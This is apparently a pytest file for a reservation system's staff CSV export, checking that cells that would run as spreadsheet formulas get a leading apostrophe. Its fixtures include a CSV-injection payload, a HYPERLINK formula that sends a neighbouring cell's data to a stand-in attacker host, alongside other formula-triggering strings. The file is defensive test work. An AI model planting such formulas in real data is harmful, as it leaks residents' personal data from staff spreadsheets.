"""Every CSV export is inert in a spreadsheet: no cell starts as a formula."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, time
from pathlib import Path

import pytest

from reservations.models import Reservation
from staff.shortcuts import spreadsheet_safe
from tests import factories

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    "value", ['=HYPERLINK("http://evil.example/?"&H2,"詳細")', "+81 90", "-2+3", "@SUM(A1)", "\tx", "\rx", "＝1+1"]
)
def test_a_cell_that_would_run_as_a_formula_gets_a_leading_apostrophe(value) -> None:
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["田中", "090-1111-2222", "", 5, -3, None, "a=b"])
def test_other_cells_are_unchanged(value) -> None:
    assert spreadsheet_safe(value) == value


@pytest.mark.django_db
def test_the_day_list_csv_neutralises_what_a_resident_typed(clerk_client, frozen) -> None:
    slot = factories.slot(date(2026, 11, 26), time(9, 0))
    Reservation.objects.create(
        number="ACDEFG34",
        token="t" * 43,
        procedure=slot.procedure,
        slot=slot,
        family_name='=HYPERLINK("http://evil.example/?"&H2,"詳細")',
        given_name="@SUM(1)",
        family_name_kana="タナカ",
        given_name_kana="ヨウコ",
        phone="+81-90-1111-2222",
        phone_digits="819011112222",
        notes="-1+1",
    )
    body = clerk_client.get("/staff/day/2026-11-26/reservations.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    cells = [cell for row in rows[1:] for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?"&H2,"詳細") @SUM(1)' in cells
    assert "'+81-90-1111-2222" in cells and "'-1+1" in cells
    assert not [c for c in cells if c and c[0] in "=+-@\t\r"]


def test_no_module_writes_csv_except_the_one_helper() -> None:
    writers = []
    for path in ROOT.glob("*/**/*.py"):
        if path.parts[len(ROOT.parts)] in {".venv", "tests", "bench", ".venv-lock"}:
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            writers.append(str(path.relative_to(ROOT)))
    assert writers == ["staff/shortcuts.py"]
